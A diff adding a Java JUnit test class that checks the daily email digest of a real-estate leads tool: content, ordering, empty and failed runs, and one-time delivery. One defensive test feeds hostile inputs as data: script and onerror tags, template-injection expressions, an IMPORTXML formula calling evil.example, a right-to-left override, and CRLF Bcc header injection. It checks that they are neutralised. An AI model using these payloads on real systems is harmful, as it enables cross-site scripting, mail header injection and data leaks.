@@ -1,0 +1,239 @@
+package com.developmentleads.daily;
+
+import static com.developmentleads.daily.SearchService.home;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.developmentleads.daily.Loopback.Answer;
+import com.developmentleads.runtime.LeadsRuntime;
+import com.developmentleads.testing.Workplace;
+import jakarta.mail.BodyPart;
+import jakarta.mail.Multipart;
+import jakarta.mail.internet.MimeMessage;
+import java.nio.file.Path;
+import java.time.LocalDate;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** The digest, as a real mail server receives it. */
+class DigestTest {
+
+    private static final LocalDate MONDAY = LocalDate.of(2026, 11, 23);
+
+    @TempDir
+    Path folder;
+
+    private Morning morning;
+
+    @BeforeEach
+    void open() {
+        morning = new Morning(folder);
+    }
+
+    @AfterEach
+    void close() {
+        morning.close();
+    }
+
+    private MimeMessage onlyMail() {
+        assertThat(morning.mails()).hasSize(1);
+        return morning.mails().get(0);
+    }
+
+    private static String part(MimeMessage mail, String type) throws Exception {
+        assertThat(mail.getContentType()).startsWith("multipart/alternative");
+        Multipart parts = (Multipart) mail.getContent();
+        assertThat(parts.getCount()).isEqualTo(2);
+        for (int i = 0; i < parts.getCount(); i++) {
+            BodyPart part = parts.getBodyPart(i);
+            if (part.isMimeType(type)) {
+                return part.getContent().toString().replace("\r\n", "\n");
+            }
+        }
+        throw new AssertionError("no " + type);
+    }
+
+    @Test
+    void it_has_the_leads_best_first_in_html_and_in_plain_text_and_the_run_in_numbers() throws Exception {
+        SearchService.Result page = new SearchService.Result("Homes for sale in Newton, MA", "https://www.zillow.com/newton-ma/", "x");
+        morning.withMail().finds(home(1, 1_250_000, "teardown, built in 1948, 0.3 acre lot"), home(2, "charming"),
+                home(3, "teardown"), page);
+        morning.models.always(request -> {
+            morning.models.withLogprobs(Models.question(request).contains("3 Example") ? -0.01 : -0.5);
+            return null;
+        });
+
+        assertThat(morning.set("classify.concurrency", "1").daily().code()).isZero();
+
+        MimeMessage mail = onlyMail();
+        assertThat(mail.getSubject()).isEqualTo("2 leads in Newton, MA, " + morning.value("select run_date from runs"));
+        assertThat(mail.getFrom()).extracting(Object::toString).containsExactly("Leads <leads@example.com>");
+        assertThat(mail.getAllRecipients()).extracting(Object::toString).containsExactly("buyer@example.com");
+        assertThat(mail.getMessageID()).isEqualTo("<leads-" + morning.value("select run_key from runs") + "@development-leads>");
+        assertThat(((Multipart) mail.getContent()).getBodyPart(1).isMimeType("text/html")).isTrue();
+        String html = part(mail, "text/html");
+        assertThat(html.indexOf("3 Example St")).isPositive().isLessThan(html.indexOf("1 Example St"));
+        assertThat(html).contains("<h1 ", "2 leads in Newton, MA", "$1,250,000", "99 %", "61 %", "0.3 acres", "built 1948",
+                "href=\"https://www.zillow.com/homedetails/1-Example-St-Newton-MA-02458/1_zpid/\"",
+                "4, from 1 search<", "3; 3 new, 0 changed", "1 not one property", "gpt-6-luna", "3,000 in, 15 out", "$0.0003")
+                .doesNotContain("2 Example St", "open the sheet", "http-equiv", "<img", "src=");
+        String text = part(mail, "text/plain");
+        assertThat(text.indexOf("1. 3 Example St")).isPositive().isLessThan(text.indexOf("2. 1 Example St"));
+        assertThat(text).contains("2 leads in Newton, MA", "$1,250,000, development opportunity (61 %)", "lot 0.3 acres, built 1948, 3 beds, 1 bath, for sale, zillow",
+                "https://www.zillow.com/homedetails/1-Example-St-Newton-MA-02458/1_zpid/", "4, from 1 search\n",
+                "3; 3 new, 0 changed", "2 development opportunity, 1 not opportunity", "1 not one property", "gpt-6-luna",
+                "3,000 in, 15 out", "$0.0003").doesNotContain("<", "&amp;", "&#");
+    }
+
+    @Test
+    void it_links_to_the_sheet_when_there_is_one() throws Exception {
+        morning.withSheet().withMail().set("sheets.link", "https://sheets.example/mine?x=1&y=2").finds(home(1, "teardown"));
+
+        morning.daily();
+
+        assertThat(part(onlyMail(), "text/html")).contains("href=\"https://sheets.example/mine?x=1&amp;y=2\"");
+        assertThat(part(onlyMail(), "text/plain")).contains("https://sheets.example/mine?x=1&y=2");
+    }
+
+    @Test
+    void what_comes_from_the_web_does_nothing_in_the_mail() throws Exception {
+        String hostile = "teardown <script>alert(1)</script></td></table><img src=x onerror=a> ${env:HOME} {{sys:user.home}}"
+                + " #{7*7} <#list 1..9 as i>x</#list> =IMPORTXML(\"http://evil.example\") \u202eevil\u202c \"quoted\" 'single' &amp;"
+                + "\r\nBcc: victim@example.com\r\n\r\nsecond";
+        morning.withMail().finds(new SearchService.Result(home(1, "").title(), home(1, "").link() + "?\"onclick=x", hostile));
+
+        Workplace.Result result = morning.daily("--location", "Newton <b>\r\nBcc: victim@example.com\r\n${env:HOME} #{7*7}");
+
+        assertThat(result.code()).isZero();
+        MimeMessage mail = onlyMail();
+        assertThat(mail.getAllRecipients()).extracting(Object::toString).containsExactly("buyer@example.com");
+        assertThat(mail.getHeader("Bcc")).isNull();
+        assertThat(mail.getSubject()).startsWith("1 lead in Newton <b> Bcc: victim@example.com ${env:HOME} #{7*7}, ")
+                .doesNotContain("\n", "\r");
+        String html = part(mail, "text/html");
+        assertThat(html).contains("&lt;script&gt;alert(1)&lt;/script&gt;", "${env:HOME}", "{{sys:user.home}}", "#{7*7}",
+                "=IMPORTXML(&quot;http://evil.example&quot;)", "Newton &lt;b&gt;")
+                .doesNotContain("<script", "<img", "onerror=a>", "\u202e", System.getenv("HOME") + " ", System.getProperty("user.home"));
+        assertThat(html.split("</table>", -1)).hasSize(2);
+        String text = part(mail, "text/plain");
+        assertThat(text).contains("<script>alert(1)</script>", "${env:HOME}", "{{sys:user.home}}", "<#list 1..9 as i>x</#list>")
+                .doesNotContain("\u202e", "\nBcc:", System.getProperty("user.home"));
+        assertThat(result.out()).doesNotContain("\u202e", "\u001b", "\r\nBcc");
+    }
+
+    @Test
+    void a_day_without_leads_is_told() throws Exception {
+        morning.withMail();
+
+        assertThat(morning.daily().code()).isEqualTo(3);
+
+        MimeMessage mail = onlyMail();
+        assertThat(mail.getSubject()).startsWith("No new leads in Newton, MA, 20");
+        assertThat(part(mail, "text/html")).contains("No new leads in Newton, MA");
+        assertThat(part(mail, "text/plain")).contains("No new leads in Newton, MA");
+    }
+
+    @Test
+    void or_it_is_not_when_the_property_says_so_but_a_failure_always_is() throws Exception {
+        morning.withMail().set("digest.when-empty", "skip");
+        morning.daily();
+        assertThat(morning.mails()).isEmpty();
+
+        morning.search.always(SearchService.refusal(429, "Your account has run out of searches."));
+        assertThat(morning.daily().code()).isEqualTo(4);
+
+        MimeMessage mail = onlyMail();
+        assertThat(mail.getSubject()).startsWith("The search in Newton, MA failed, 20");
+        assertThat(part(mail, "text/html")).contains("HTTP 429, Your account has run out of searches.");
+        assertThat(part(mail, "text/plain")).contains("HTTP 429, Your account has run out of searches.");
+        morning.search.always(null);
+        morning.daily();
+        assertThat(morning.mails()).hasSize(1);
+    }
+
+    @Test
+    void a_run_that_is_not_complete_says_so_with_its_leads() throws Exception {
+        morning.withMail().finds(home(1, "teardown"), home(2, "teardown")).set("openai.retries", "0");
+        morning.models.always(request -> Models.question(request).contains("2 Example")
+                ? Answer.json(503, "{\"error\":{\"message\":\"<b>busy</b>\"}}") : null);
+
+        morning.daily();
+
+        assertThat(onlyMail().getSubject()).startsWith("1 lead in Newton, MA, 20").endsWith(" (not complete)");
+        assertThat(part(onlyMail(), "text/html")).contains("1 of 2 listings wait", "&lt;b&gt;busy&lt;/b&gt;", "1 Example St")
+                .containsPattern("Waiting</td><td>1,");
+        assertThat(part(onlyMail(), "text/plain")).contains("1 of 2 listings wait", "<b>busy</b>");
+    }
+
+    @Test
+    void a_run_is_mailed_once() {
+        morning.withMail().finds(home(1, "teardown"));
+        try (LeadsRuntime runtime = morning.start()) {
+            Map<?, ?> first = Morning.run(runtime, "monday", MONDAY);
+            Map<?, ?> second = Morning.run(runtime, "monday", MONDAY);
+            assertThat(second.get("leads")).isEqualTo(first.get("leads"));
+        }
+        assertThat(morning.mails()).hasSize(1);
+        assertThat(morning.search.requests()).hasSize(1);
+        assertThat(morning.models.requests()).hasSize(1);
+    }
+
+    @Test
+    void a_run_whose_process_died_between_mail_and_record_is_mailed_under_the_same_name() throws Exception {
+        morning.withMail().finds(home(1, "teardown"));
+        try (LeadsRuntime runtime = morning.start()) {
+            Morning.run(runtime, "monday", MONDAY);
+            morning.place.execute("delete from deliveries");
+            Morning.run(runtime, "monday", MONDAY);
+        }
+        assertThat(morning.mails()).hasSize(2);
+        assertThat(morning.mails().get(0).getMessageID()).isEqualTo(morning.mails().get(1).getMessageID())
+                .isEqualTo("<leads-monday@development-leads>");
+    }
+
+    @Test
+    void when_the_mail_server_is_down_the_run_succeeds_and_its_digest_comes_later() throws Exception {
+        int port = Morning.freePort();
+        morning.withMailAt(port).finds(home(1, "teardown"));
+
+        Workplace.Result result = morning.daily();
+
+        assertThat(result.code()).isEqualTo(1);
+        assertThat(result.err()).contains("digest: ", "refused", "check mail.host").hasLineCount(1);
+        assertThat(result.out()).contains("1 lead in Newton, MA");
+        assertThat(morning.row("select * from runs")).containsEntry("state", "succeeded");
+        Object key = morning.value("select run_key from runs");
+
+        morning.startMail();
+        try (LeadsRuntime runtime = morning.start()) {
+            runtime.ask("leads-daily-dates", List.of(), Map.of());
+            assertThat(onlyMail().getMessageID()).isEqualTo("<leads-" + key + "@development-leads>");
+            assertThat(onlyMail().getSubject()).startsWith("1 lead in Newton, MA");
+            runtime.ask("leads-daily-dates", List.of(), Map.of());
+        }
+        assertThat(morning.mails()).hasSize(1);
+        assertThat(morning.value("select count(*) from runs")).isEqualTo(1);
+        assertThat(morning.search.requests()).hasSize(1);
+    }
+
+    @Test
+    void the_next_run_sends_what_the_last_one_could_not_unless_that_is_too_old() {
+        int port = Morning.freePort();
+        morning.withMailAt(port).finds(home(1, "teardown"));
+        morning.daily();
+        morning.daily();
+        morning.place.execute("update runs set finished_at = '2026-01-01T09:00:00.000Z' where id = 1");
+
+        morning.startMail();
+        morning.finds(home(1, "teardown"), home(2, "teardown"));
+        assertThat(morning.daily().code()).isZero();
+
+        assertThat(morning.rows("select ref from deliveries where kind = 'mail'")).extracting(row -> row.get("ref"))
+                .containsExactlyElementsOf(morning.rows("select run_key from runs where id > 1 order by run_key").stream()
+                        .map(row -> row.get("run_key")).toList());
+        assertThat(morning.mails()).hasSize(2);
+    }
+}
